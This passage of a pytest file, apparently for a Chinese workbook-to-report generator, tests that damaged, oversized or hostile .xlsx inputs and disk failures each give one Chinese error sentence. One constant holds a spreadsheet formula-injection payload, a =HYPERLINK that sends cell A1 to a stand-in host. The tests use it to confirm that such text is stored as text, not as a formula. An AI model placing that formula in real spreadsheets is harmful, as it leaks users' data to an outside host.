"""Hostile and broken input, unlucky disks, interrupted runs: one Chinese sentence, never a traceback.

The corpus `BROKEN` starts from the small consistent workbook and breaks its file the way a
damaged download, a careless tool or an attacker would; every case must end in a
WorkbookError whose sentence the clerk can act on, and the batch and the web page must say
exactly the same sentence for it.
"""

from __future__ import annotations

import datetime
import errno
import io
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from generator import batch, output
from generator.batch import run_batch
from generator.cli import main
from generator.errors import WorkbookError
from generator.pipeline import load

from conftest import ROOT, SAMPLES, inline_pool

ANJU = SAMPLES / "四川-安居区社保局-2024年度单位决算.xlsx"
UNIT_SHEET = "xl/worksheets/sheet2.xml"  # 单位信息, the first sheet the reader reads
HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'


def rewrite(path: Path, change: dict[str, bytes | None], target: Path | None = None) -> Path:
    """Copy the workbook at `path` with some zip members replaced (bytes), removed (None) or added."""
    target = target or path
    with zipfile.ZipFile(path) as z:
        members = {i.filename: z.read(i.filename) for i in z.infolist()}
    for name, data in change.items():
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    target.write_bytes(buf.getvalue())
    return target


def member(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read(name)


def sheet_xml(rows: int = 1, dimension: str | None = None, cell: str = "A{r}", cells_per_row: int = 1) -> bytes:
    """A sheet of `rows` rows of `cells_per_row` cells; `cell` is each one's reference ("" for none:
    the cell then stands right of the one before it)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    ref = (lambda r, c: f' r="{cell.format(r=r, c=c)}"') if cell else (lambda r, c: "")
    body = "".join(f'<row r="{r}">' + "".join(f"<c{ref(r, c)}><v>1</v></c>" for c in range(cells_per_row))
                   + "</row>" for r in range(1, rows + 1))
    return (f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}'
            f"<sheetData>{body}</sheetData></worksheet>").encode()


def add_sheets(path: Path, sheets: dict[str, bytes], state: str | None = None) -> Path:
    """The workbook with more sheets (title → sheet XML), listed in workbook.xml as Excel lists them
    (`state`: "hidden" or "veryHidden" for each)."""
    r = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book, rels, types = (member(path, n).decode() for n in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                                                            "[Content_Types].xml"))
    parts = {}
    for i, (title, xml) in enumerate(sheets.items(), start=900):
        hidden = f' state="{state}"' if state else ""
        book = book.replace("</sheets>", f'<sheet xmlns:r="{r}" name="{title}" sheetId="{i}"{hidden} r:id="rId{i}"/></sheets>')
        rels = rels.replace("</Relationships>", f'<Relationship Id="rId{i}" Type="{r}/worksheet" '
                                                f'Target="worksheets/extra{i}.xml"/></Relationships>')
        types = types.replace("</Types>", f'<Override PartName="/xl/worksheets/extra{i}.xml" ContentType='
                                          '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        parts[f"xl/worksheets/extra{i}.xml"] = xml
    return rewrite(path, {"xl/workbook.xml": book.encode(), "xl/_rels/workbook.xml.rels": rels.encode(),
                          "[Content_Types].xml": types.encode()} | parts)


# Each case: (id, how to break the good workbook at `p` → the broken file's path, words the sentence must hold)
BROKEN = [
    ("workbook-xml-truncated", lambda p: rewrite(p, {"xl/workbook.xml": member(p, "xl/workbook.xml")[:200]}), "文件已损坏"),
    ("workbook-xml-garbage", lambda p: rewrite(p, {"xl/workbook.xml": b"<workbook><sheets><sheet"}), "文件已损坏"),
    ("workbook-xml-missing", lambda p: rewrite(p, {"xl/workbook.xml": None}), "无法作为 Excel 工作簿打开"),
    ("sheet-xml-truncated", lambda p: rewrite(p, {UNIT_SHEET: member(p, UNIT_SHEET)[:300]}), "文件已损坏"),
    ("sheet-xml-not-xml", lambda p: rewrite(p, {UNIT_SHEET: b"\x00\x01 not xml at all"}), "文件已损坏"),
    ("sheet-xml-missing", lambda p: rewrite(p, {UNIT_SHEET: None}), "缺少工作表“单位信息”"),
    ("sheet-xml-bad-number", lambda p: rewrite(p, {UNIT_SHEET: member(p, UNIT_SHEET).replace(
        b'<c r="B7"', b'<c r="B7" t="n"><v>abc</v></c><c r="Z99"', 1)}), "文件已损坏"),
    ("sheet-xml-bad-reference", lambda p: rewrite(p, {UNIT_SHEET: member(p, UNIT_SHEET).replace(
        b'<c r="B4"', b'<c r="?!"', 1)}), "文件已损坏"),
    ("styles-xml-truncated", lambda p: rewrite(p, {"xl/styles.xml": member(p, "xl/styles.xml")[:150]}), "文件已损坏"),
    ("styles-xml-garbage", lambda p: rewrite(p, {"xl/styles.xml": b"<styleSheet><cellXfs count='x'>"}), "文件已损坏"),
    ("content-types-missing", lambda p: rewrite(p, {"[Content_Types].xml": None}), "文件已损坏"),
    ("rels-garbage", lambda p: rewrite(p, {"xl/_rels/workbook.xml.rels": b"<Relationships"}), "文件已损坏"),
    ("zip-truncated", lambda p: (p.write_bytes(p.read_bytes()[: len(p.read_bytes()) // 2]), p)[1], "无法作为 Excel 工作簿打开"),
    ("zip-crc-broken", lambda p: _flip_in_member(p, UNIT_SHEET), "无法作为 Excel 工作簿打开"),
    ("shared-strings-millions", lambda p: rewrite(p, {"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 100_001
                                                      + b"</sst>"}), "100000 个的上限"),
    ("part-unpacks-huge", lambda p: rewrite(p, {"xl/media/image1.bin": b"\0" * (17 * 1024 * 1024)}), "16 MB 的上限"),
    ("parts-unpack-huge-together", lambda p: rewrite(p, {f"xl/media/image{i}.bin": b"\0" * (15 * 1024 * 1024)
                                                         for i in range(5)}), "64 MB 的上限"),
    ("read-sheet-many-rows", lambda p: rewrite(p, {UNIT_SHEET: sheet_xml(rows=10_001)}), "工作表“单位信息”超过了 10000 行的上限"),
    ("read-sheet-far-right", lambda p: rewrite(p, {UNIT_SHEET: sheet_xml(cell="ZZZ{r}")}), "工作表“单位信息”有数据在第 256 列"),
    ("read-sheet-far-right-without-references", lambda p: rewrite(p, {UNIT_SHEET: sheet_xml(cell="", cells_per_row=300)}),
     "工作表“单位信息”有数据在第 256 列"),
    ("read-sheet-part-huge", lambda p: rewrite(p, {UNIT_SHEET: sheet_xml(rows=1) + b" " * (17 * 1024 * 1024)}),
     "工作表“单位信息”解压后有 17 MB，超过了 16 MB 的上限"),
    ("read-sheets-too-many-cells", lambda p: rewrite(p, {UNIT_SHEET: sheet_xml(rows=5000, cells_per_row=62)}),
     "300000 个的上限"),
    ("too-many-sheets", lambda p: add_sheets(p, {f"表{i}": sheet_xml() for i in range(101)}), "100 张的上限"),
    ("file-too-big", lambda p: (p.write_bytes(b"PK\x03\x04" + b"\0" * (21 * 1024 * 1024)), p)[1], "20 MB 的上限"),
    ("empty-part", lambda p: rewrite(p, {UNIT_SHEET: b""}), "文件已损坏"),
    ("docx-renamed", lambda p: rewrite(p, {"xl/workbook.xml": None, "word/document.xml": b"<w:document/>"}),
     "无法作为 Excel 工作簿打开"),
]


def _flip_in_member(path: Path, name: str) -> Path:
    """Damage the compressed bytes of one member (its CRC no longer matches)."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + 40):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))
    return path


@pytest.fixture
def good(make_workbook, minimal_data):
    return make_workbook(minimal_data, "单位.xlsx")


@pytest.mark.parametrize("case", BROKEN, ids=[c[0] for c in BROKEN])
def test_broken_file_is_one_chinese_sentence(case, good):
    """A damaged or hostile workbook file: a WorkbookError naming the file, with the reason; no traceback."""
    _, breaks, words = case
    path = breaks(good) or good
    with pytest.raises(WorkbookError) as info:
        load(path)
    message = str(info.value)
    assert words in message, message
    assert re.search(r"[\u4e00-\u9fff]", message) and "Error" not in message and "Traceback" not in message
    assert not re.search(r"xl/|\.xml|\.bin|sheet\d", message), message  # a sheet by its title, never a part


def test_broken_files_say_the_same_in_cli_batch_and_web(good, tmp_path):
    """The CLI, a batch and the web page give each broken workbook the very same sentence."""
    from generator import web

    folder = tmp_path / "区县"
    folder.mkdir()
    chosen = [c for c in BROKEN if c[0] in ("workbook-xml-truncated", "sheet-xml-truncated", "styles-xml-garbage",
                                             "shared-strings-millions", "read-sheet-many-rows", "zip-crc-broken")]
    expected = {}
    for name, breaks, _ in chosen:
        path = folder / f"{name}.xlsx"
        shutil.copy(good, path)
        breaks(path)
        res = CliRunner().invoke(main, ["check", str(path)])
        assert res.exit_code == 1 and "Traceback" not in res.output
        expected[path.name] = res.stderr.strip().removeprefix("错误：")
    result = run_batch([folder], tmp_path / "out", jobs=1)
    assert {Path(r["relative"]).name: r["message"] for r in result.results} == expected

    app = web.create_app({"WORK_DIR": tmp_path / "web", "JOBS": 1})
    client = app.test_client()
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/").get_data(as_text=True)).group(1)
    files = [(io.BytesIO((folder / n).read_bytes()), n) for n in expected]
    res = client.post("/upload", data={"files": files, "csrf": token}, content_type="multipart/form-data")
    assert res.status_code == 303
    store = app.extensions["juesuan"]
    job = next(iter(next(iter(store.sessions.values())).jobs.values()))
    end = time.monotonic() + 60
    while job.running and time.monotonic() < end:
        time.sleep(0.2)
    assert {u.display: u.message for u in job.units} == expected


# ---------------------------------------------------------------- sheets the report does not read

# Each case: a sheet no report reads, beyond one limit (or several), and how the 提示 says it
UNREAD = [
    ("many-rows", lambda: sheet_xml(rows=10_001), "超过了 10000 行的上限"),
    ("far-right", lambda: sheet_xml(cell="ZZZ{r}"), "有数据在第 256 列（IV 列）之外"),
    ("far-right-without-references", lambda: sheet_xml(rows=3, cell="", cells_per_row=257), "有数据在第 256 列（IV 列）之外"),
    ("part-huge", lambda: sheet_xml(rows=1) + b" " * (17 * 1024 * 1024), "解压后有 17 MB，超过了 16 MB 的上限"),
    ("cells-beyond-the-total", lambda: sheet_xml(rows=5000, cells_per_row=61), "使全部工作表的单元格超过了 300000 个的上限"),
]


@pytest.mark.parametrize("state", [None, "hidden", "veryHidden"])
@pytest.mark.parametrize("case", UNREAD, ids=[c[0] for c in UNREAD])
def test_sheet_the_report_does_not_read_is_skipped_not_refused(case, state, good, tmp_path):
    """An oversized sheet no report reads (visible or hidden): the workbook is read, with a 提示
    naming the sheet, and `check --report` still writes the check workbook (that sheet empty)."""
    _, xml, words = case
    add_sheets(good, {"草稿": xml()}, state)
    acc, findings = load(good)
    [hint] = [f for f in findings if f.rule == "READ-SKIPPED"]
    assert hint.severity == "提示" and hint.ref == "草稿" and words in hint.message and "已跳过" in hint.message
    assert not [f for f in findings if f.severity == "错误"] and acc.unit["name"] == "测试单位"
    res = CliRunner().invoke(main, ["check", str(good), "--report", "-o", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    marked = load_workbook(next((tmp_path / "out").rglob("*.检查结果.xlsx")))
    assert marked["草稿"].max_row == 1 and marked["单位信息"]["B4"].value == "测试单位"


def test_two_unread_sheets_share_the_total_and_only_the_excess_is_skipped(good):
    """Unread sheets that fit together are read as usual; the one that passes the total bound is the one left out."""
    add_sheets(good, {"甲": sheet_xml(rows=2000, cells_per_row=100), "乙": sheet_xml(rows=2000, cells_per_row=100)})
    _, findings = load(good)
    assert [f.ref for f in findings if f.rule == "READ-SKIPPED"] == ["乙"]


def test_dimension_tag_is_not_a_count(good, tmp_path):
    """Excel and WPS write <dimension ref="A1:XFD1048576"/> for ordinary sheets: read as the data they hold, silently."""
    for part in (UNIT_SHEET, "xl/worksheets/sheet5.xml"):
        xml = member(good, part)
        rewrite(good, {part: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)})
    add_sheets(good, {"草稿": sheet_xml(rows=3, dimension="A1:XFD1048576")})
    assert b"XFD1048576" in member(good, UNIT_SHEET)
    acc, findings = load(good)
    assert findings == [] and acc.unit["name"] == "测试单位"
    res = CliRunner().invoke(main, ["check", str(good), "--report", "-o", str(tmp_path / "out")])
    assert res.exit_code == 0 and "错误 0 处，警告 0 处，提示 0 处" in res.output, res.output


def test_hidden_sheet_the_report_reads_is_said(good):
    """A sheet of the report hidden in Excel still counts; the clerk is told which one."""
    text, n = re.subn(r'(name="上年数"[^>]*?)state="visible"', r'\1state="hidden"', member(good, "xl/workbook.xml").decode())
    assert n == 1
    rewrite(good, {"xl/workbook.xml": text.encode()})
    _, findings = load(good)
    [f] = [f for f in findings if f.rule == "READ-HIDDEN"]
    assert f.ref == "上年数" and f.severity == "警告" and "是隐藏的" in f.message


# ---------------------------------------------------------------- file type by content

@pytest.mark.parametrize("name", ["单位.xls", "单位.csv", "单位", "单位.XLSX"])
def test_workbook_under_another_name_is_read_by_content(good, tmp_path, name):
    """A valid workbook named .xls, .csv, without extension or in capitals is checked as the workbook it is."""
    path = tmp_path / name
    shutil.copy(good, path)
    res = CliRunner().invoke(main, ["check", str(path)])
    assert res.exit_code == 0, res.output
    assert "检查完成：错误 0 处" in res.output


def test_previous_pointing_at_a_broken_file_is_no_traceback(good, tmp_path):
    """`--previous` naming a damaged workbook: the report is still written, no traceback."""
    broken = rewrite(good, {"xl/workbook.xml": b"<workbook"}, tmp_path / "上年.xlsx")
    res = CliRunner().invoke(main, [str(good), "-o", str(tmp_path / "out"), "--previous", str(broken)])
    assert "Traceback" not in res.output and res.exception is None or isinstance(res.exception, SystemExit)
    assert res.exit_code == 0, res.output
    assert "注意：上年工作簿无法读取，未用其上年数：上年.xlsx：" in res.output


# ---------------------------------------------------------------- messages

def test_messages_name_the_cell_type(minimal_data, make_workbook):
    """A date in a count cell is said to be a date; TRUE as 单位名称 is refused; 1900 is out of range (not "四位")."""
    minimal_data["unit"].update(staff_actual=None, year=1900)
    path = make_workbook(minimal_data)
    wb = load_workbook(path)
    wb["单位信息"]["B14"] = datetime.datetime(2024, 5, 1)
    wb["单位信息"]["B4"] = True
    wb.save(path)
    _, findings = load(path)
    said = {(f.rule, f.ref): f.message for f in findings}
    assert said["READ-COUNT", "单位信息!B14"].startswith("应填不小于 0 的整数，实为日期或时间“2024-05-01”")
    assert "金额" not in said["READ-COUNT", "单位信息!B14"]
    assert said["READ-TEXT", "单位信息!B4"] == "应填文字，实为逻辑值“TRUE”；请填写文字"
    assert said["UNIT-YEAR", "单位信息!B7"] == "报告年度应在 2000 至 2100 年之间，实为“1900”"


@pytest.mark.parametrize("key, value, said", [("name", 12345, "数字“12345”"), ("name", 3.5, "数字“3.5”"),
                                              ("name", "——", "“——”"), ("short_name", "2024", "“2024”")])
def test_name_without_a_letter_is_refused_at_its_cell(minimal_data, make_workbook, tmp_path, key, value, said):
    """A 单位名称 (or 简称) with no letter in it would title the report “123452024年度单位决算说明”: a READ-TEXT
    错误 at its cell, said once; no report, not even with --force."""
    minimal_data["unit"][key] = value
    path = make_workbook(minimal_data)
    _, findings = load(path)
    errors = [f for f in findings if f.severity == "错误"]
    assert len(errors) == 1 and errors[0].rule == "READ-TEXT" and errors[0].ref.startswith("单位信息!B"), errors
    assert said in errors[0].message and "名称" in errors[0].message
    for force in ([], ["--force"]):
        res = CliRunner().invoke(main, [str(path), "-o", str(tmp_path / "out"), *force])
        if key == "name":
            assert res.exit_code == 1 and said in res.output and not list(tmp_path.rglob("*.docx")), res.output
        else:  # the 简称 is left out (the full name serves): --force writes the report
            assert res.exit_code == (0 if force else 1) and said in res.output, res.output


def test_project_name_without_a_letter_is_refused_at_its_cell(minimal_data, make_workbook):
    """The same for a 项目名称 (it heads the 专项 report and the 绩效 tables)."""
    from test_selfeval import selfeval_data

    data = selfeval_data(minimal_data)
    data["projects"][0]["name"] = 2024
    _, findings = load(make_workbook(data))
    [f] = [f for f in findings if f.rule == "READ-TEXT"]
    assert f.ref.startswith("项目绩效自评!") and "“项目名称”应填名称（文字），实为数字“2024”" in f.message


def test_full_width_code_is_read_as_digits(minimal_data, make_workbook):
    """A code typed with full-width digits is read as the code (as amounts are) with a hint."""
    minimal_data["t03"][0]["code"] = "２０１０１０１"
    acc, findings = load(make_workbook(minimal_data))
    assert [f.message for f in findings if f.rule == "CODE-FORMAT"] == ["编码“２０１０１０１”按 2010101 读取（全角字符已转为半角）"]
    assert not [f for f in findings if f.severity == "错误"]


def test_long_unit_name_still_writes_the_report(minimal_data, make_workbook, tmp_path):
    """A 300-character 单位名称 gives a report with a shortened file name, not "File name too long"."""
    minimal_data["unit"]["name"] = "很长的单位名称" * 43
    res = CliRunner().invoke(main, [str(make_workbook(minimal_data)), "-o", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    docx = [p for p in (tmp_path / "out").rglob("*.docx")]
    assert len(docx) == 1 and "2024年度单位决算说明" in docx[0].name and len(docx[0].name.encode()) < 255


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "abc"])
def test_bad_threshold_is_one_sentence(good, value):
    """`--change-amount nan` (or inf, a negative, a word): one Chinese line, exit 1."""
    res = CliRunner().invoke(main, ["check", str(good), f"--change-amount={value}"])
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.strip() == f"错误：--change-amount 的值应为不小于 0 的数字，实为“{value}”；用 generate --help 查看用法"


# ---------------------------------------------------------------- the disk refuses

def _report(out: Path) -> Path:
    return next(out.rglob("*.docx"))


def test_full_disk_keeps_the_earlier_report(good, tmp_path, monkeypatch):
    """Disk full while writing: one sentence, the earlier report byte-identical, no *.tmp left."""
    out = tmp_path / "out"
    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
    before = _report(out).read_bytes()

    def full(self, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full)
    res = CliRunner().invoke(main, [str(good), "-o", str(out)])
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.startswith("错误：磁盘空间不足，无法写入“") and "请清理磁盘或换一个输出文件夹后重试" in res.stderr
    monkeypatch.undo()
    assert _report(out).read_bytes() == before
    assert not list(out.rglob("*.tmp"))


def test_full_disk_in_a_batch_fails_the_unit_with_the_sentence(good, tmp_path, monkeypatch):
    """In a batch the unit that could not be written fails with the same sentence; it is retried next run."""
    folder = tmp_path / "区县"
    folder.mkdir()
    shutil.copy(good, folder / "单位.xlsx")
    monkeypatch.setattr(Path, "write_bytes", lambda self, data: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
    result = run_batch([folder], tmp_path / "out", jobs=1)
    (unit,) = result.results
    assert unit["status"] == "错误" and unit["message"].startswith("磁盘空间不足，无法写入“")
    monkeypatch.undo()
    again = run_batch([folder], tmp_path / "out", jobs=1)
    assert again.results[0]["status"] == "成功" and not again.results[0]["skipped"]


def test_report_path_taken_by_a_folder(good, tmp_path):
    """A folder where the .docx should go: one sentence naming it."""
    out = tmp_path / "out"
    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
    report = _report(out)
    report.unlink()
    report.mkdir()
    res = CliRunner().invoke(main, [str(good), "-o", str(out)])
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.strip() == f"错误：“{report}”是一个文件夹，无法作为文件写入；请移走或改名该文件夹后重试"


def test_output_folder_is_a_file(good, tmp_path):
    """`-o` naming an existing file (single and batch): one sentence."""
    blocker = tmp_path / "输出"
    blocker.write_text("x")
    for args in ([str(good)], [str(good), str(good)]):
        res = CliRunner().invoke(main, [*args, "-o", str(blocker / "子")])
        assert res.exit_code == 1 and "Traceback" not in res.output, res.output
        assert "同名的文件已存在" in res.stderr, res.stderr


def test_read_only_output_folder(good, tmp_path, monkeypatch):
    """A read-only output folder (single and batch): one sentence, no traceback."""
    monkeypatch.setattr(output, "_can_write", lambda folder: False)  # as root, chmod would not stop us
    for args in ([str(good)], [str(good), str(good)]):
        res = CliRunner().invoke(main, [*args, "-o", str(tmp_path / "out")])
        assert res.exit_code == 1 and "Traceback" not in res.output, res.output
        assert res.stderr.startswith("错误：没有在“") and "写入的权限" in res.stderr, res.stderr


@pytest.mark.parametrize("code, words", [
    (errno.ENOSPC, "磁盘空间不足"), (errno.EROFS, "所在的磁盘是只读的"), (errno.ENAMETOOLONG, "文件名或路径过长"),
    (errno.EACCES, "写入的权限"), (errno.EIO, "无法写入“"),
])
def test_every_disk_refusal_is_a_sentence(tmp_path, monkeypatch, code, words):
    """Whatever the operating system refuses while writing, the writer says it in Chinese, naming the place."""
    from generator.errors import OutputError

    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "报告.docx"
    target.write_bytes(b"earlier")

    def refuse(self, data):
        raise (PermissionError if code == errno.EACCES else OSError)(code, os.strerror(code))

    monkeypatch.setattr(Path, "write_bytes", refuse)
    with pytest.raises(OutputError) as info:
        with output.atomic_write(target) as tmp:
            tmp.write_bytes(b"new")
    monkeypatch.undo()
    assert words in str(info.value) and str(target) in str(info.value)
    assert target.read_bytes() == b"earlier" and [p.name for p in target.parent.iterdir()] == ["报告.docx"]


def test_output_equal_to_input_folder(good, tmp_path):
    """`-o` equal to the input folder: told so, not "no workbooks"."""
    folder = good.parent
    res = CliRunner().invoke(main, [str(folder), "-o", str(folder)])
    assert res.exit_code == 1
    assert res.stderr.startswith(f"错误：输出文件夹“{folder}”与工作簿所在的文件夹相同")


# ---------------------------------------------------------------- litter and permissions

def test_files_honour_the_umask_and_litter_is_removed(good, tmp_path):
    """Reports are created with the umask's mode (0644 under 022); *.tmp of a killed run goes at the next run."""
    out = tmp_path / "out"
    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
    report = _report(out)
    mask = os.umask(0o022)
    os.umask(mask)
    assert stat.S_IMODE(report.stat().st_mode) == 0o666 & ~mask
    if mask == 0o022:
        assert stat.S_IMODE(report.stat().st_mode) == 0o644
    litter = [report.parent / f".{report.stem}.abc123.docx.tmp", report.parent / "图表" / ".图1.xyz.png.tmp"]
    for tmp in litter:
        tmp.write_bytes(b"half")
    assert CliRunner().invoke(main, [str(good), "-o", str(out)]).exit_code == 0
    assert not any(t.exists() for t in litter)


def test_batch_removes_litter_below_its_output(good, tmp_path):
    folder = tmp_path / "区县"
    folder.mkdir()
    shutil.copy(good, folder / "单位.xlsx")
    out = tmp_path / "out"
    (out / "旧").mkdir(parents=True)
    litter = [out / ".manifest.abc.json.tmp", out / "旧" / ".汇总.x.xlsx.tmp"]
    for tmp in litter:
        tmp.write_bytes(b"half")
    run_batch([folder], out, jobs=1)
    assert not any(t.exists() for t in litter)


# ---------------------------------------------------------------- names that cannot collide

def test_names_folded_alike_get_their_own_folders(good, tmp_path):
    """"单位.xlsx", "单位 .xlsx", "单位.XLSX", "单位.xlsm", "a:b.xlsx" and "a_b.xlsx": six folders, six reports."""
    folder = tmp_path / "区县"
    folder.mkdir()
    for name in ("单位.xlsx", "单位 .xlsx", "单位.XLSX", "单位.xlsm", "a:b.xlsx", "a_b.xlsx"):
        shutil.copy(good, folder / name)
    out = tmp_path / "out"
    result = run_batch([folder], out, jobs=1)
    dirs = {r["out_dir"] for r in result.results}
    assert len(dirs) == 6
    assert len(list(out.rglob("*.docx"))) == 6
    assert (out / "单位").is_dir() and (out / "a_b").is_dir()


def test_folders_differing_in_case_of_the_suffix_are_processed_and_others_listed(good, tmp_path):
    """.XLSX, .Xlsx and .xlsm are processed; a .doc and an Office lock file are listed in 汇总.xlsx."""
    folder = tmp_path / "区县"
    folder.mkdir()
    for name in ("甲.XLSX", "乙.Xlsx", "丙.xlsm"):
        shutil.copy(good, folder / name)
    (folder / "说明.doc").write_bytes(b"\xd0\xcf\x11\xe0word")
    (folder / "~$甲.XLSX").write_bytes(b"lock")
    res = CliRunner().invoke(main, [str(folder), "-o", str(tmp_path / "out"), "--jobs", "1"])
    assert res.exit_code == 0, res.output
    assert "共 3 个单位：生成 3 个" in res.output
    assert "未处理  说明.doc：不是 .xlsx 工作簿" in res.output
    sheet = load_workbook(tmp_path / "out" / "汇总.xlsx")[batch.NOT_PROCESSED_SHEET]
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [
        ("~$甲.XLSX", "Office 的临时文件（工作簿正在被打开），不是工作簿"), ("说明.doc", "不是 .xlsx 工作簿")]


def test_second_batch_into_the_same_folder_is_refused(good, tmp_path):
    """While one batch writes into an output folder another is told to wait (a lock file)."""
    out = tmp_path / "out"
    out.mkdir()
    with batch.output_lock(out):
        res = CliRunner().invoke(main, [str(good), str(good), "-o", str(out)])
    assert res.exit_code == 1
    assert res.stderr.strip() == f"错误：另一个批量处理正在向“{out}”写入；请等它完成后再运行，或用 -o 换一个输出文件夹"
    assert CliRunner().invoke(main, [str(good), str(good), "-o", str(out), "--jobs", "1"]).exit_code == 0


def test_failed_units_are_not_counted_as_generated(good, tmp_path, minimal_data, make_workbook):
    """The batch's last line counts a failed unit as not generated."""
    from decimal import Decimal

    minimal_data["t03"][0]["total"] = Decimal("90")
    bad = make_workbook(minimal_data, "坏.xlsx")
    res = CliRunner().invoke(main, [str(good), str(bad), "-o", str(tmp_path / "out"), "--jobs", "1"])
    assert "共 2 个单位：生成 1 个，未变动跳过 0 个，未生成（有错误）1 个。" in res.output


# ---------------------------------------------------------------- text is text

def _sheet_xmls(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")}


def test_hostile_names_are_written_as_text(minimal_data, make_workbook, tmp_path):
    """A unit name, a code name and a file name starting with "=" stay text in 汇总.xlsx and
    in the check workbook: the written XML holds no formula, and the text reads back unchanged."""
    minimal_data["unit"]["name"] = HOSTILE
    minimal_data["t03"].append({"code": "2019998", "name": "=1+1"})
    folder = tmp_path / "区县"
    folder.mkdir()
    path = make_workbook(minimal_data, "=1+1.xlsx")
    assert b"<f>" not in b"".join(_sheet_xmls(path).values())  # our own writer, too
    shutil.copy(path, folder / "=1+1.xlsx")
    out = tmp_path / "out"
    run_batch([folder], out, jobs=1)
    summary = out / "汇总.xlsx"
    assert b"<f>" not in b"".join(_sheet_xmls(summary).values())
    row = next(load_workbook(summary)["汇总"].iter_rows(min_row=2, values_only=True))
    assert row[:2] == ("=1+1.xlsx", HOSTILE)

    res = CliRunner().invoke(main, ["check", str(path), "--report", "-o", str(tmp_path / "chk")])
    report = next((tmp_path / "chk").rglob("*.检查结果.xlsx"))
    xml = _sheet_xmls(report)
    assert not [n for n, x in xml.items() if b"<f>" in x], res.output
    wb = load_workbook(report)
    assert wb["单位信息"]["B4"].value == HOSTILE and wb["单位信息"]["B4"].data_type == "s"
    messages = [c.value for c in wb["检查结果"]["E"] if c.value]
    assert any("=1+1" in m for m in messages)


def test_text_cell_keeps_a_leading_equals_as_text(tmp_path):
    """The helper every writer uses: a string starting with "=" is stored as a string, a formula never."""
    from openpyxl import Workbook

    from generator.workbook import as_text, text_cell

    wb = Workbook()
    text_cell(wb.active.cell(1, 1), "=1+1")
    wb.active.cell(2, 1, "=SUM(A1:A1)")
    as_text(wb)
    wb.save(tmp_path / "t.xlsx")
    xml = _sheet_xmls(tmp_path / "t.xlsx")["xl/worksheets/sheet1.xml"]
    assert b"<f>" not in xml and b"<t>=1+1</t>" in xml and b"<t>=SUM(A1:A1)</t>" in xml


# ---------------------------------------------------------------- processes that die together

def _children(pid: int) -> set[int]:
    found = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            found |= {int(x) for x in (task / "children").read_text().split()}
        except OSError:
            pass
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
@pytest.mark.parametrize("how", ["SIGKILL", "SIGTERM", "Ctrl+C"])
def test_workers_die_with_the_batch_quietly(good, tmp_path, how):
    """SIGKILL or SIGTERM of a batch's main process, or Ctrl+C in its terminal (SIGINT to every
    process of the group): its workers are gone within seconds, without a word (they printed
    "Process ForkProcess-1: Traceback … KeyboardInterrupt")."""
    folder = tmp_path / "区县"
    folder.mkdir()
    for i in range(6):
        shutil.copy(ANJU, folder / f"单位{i}.xlsx")
    code = (f"from generator.batch import run_batch; run_batch([{str(folder)!r}], {str(tmp_path / 'out')!r}, jobs=2)")
    proc = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, env=os.environ | {"PYTHONPATH": str(ROOT)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    workers: set[int] = set()
    try:
        end = time.monotonic() + 90
        while (len(_children(proc.pid)) < 2 or not list((tmp_path / "out").glob("单位*"))) and time.monotonic() < end \
                and proc.poll() is None:
            time.sleep(0.05)  # until the workers are at work (a unit's folder was made)
        workers = _children(proc.pid)
        assert len(workers) >= 2, "the batch did not start its workers"
        if how == "Ctrl+C":
            os.killpg(proc.pid, signal.SIGINT)
        else:
            os.kill(proc.pid, getattr(signal, how))
        _, err = proc.communicate(timeout=60)  # until every process holding the pipes has ended
        end = time.monotonic() + 10
        while any(_alive(w) for w in workers) and time.monotonic() < end:
            time.sleep(0.1)
        assert not [w for w in workers if _alive(w)], "workers outlived their parent"
        assert "Traceback" not in err and "KeyboardInterrupt" not in err, err
    finally:
        if proc.poll() is None:
            proc.kill()
        _end_leftovers(workers)


def test_pool_never_larger_than_the_work(good, tmp_path, monkeypatch):
    """`--jobs 32` with two workbooks starts two workers."""
    started = []
    monkeypatch.setattr(batch, "ProcessPoolExecutor", inline_pool(started))
    folder = tmp_path / "区县"
    folder.mkdir()
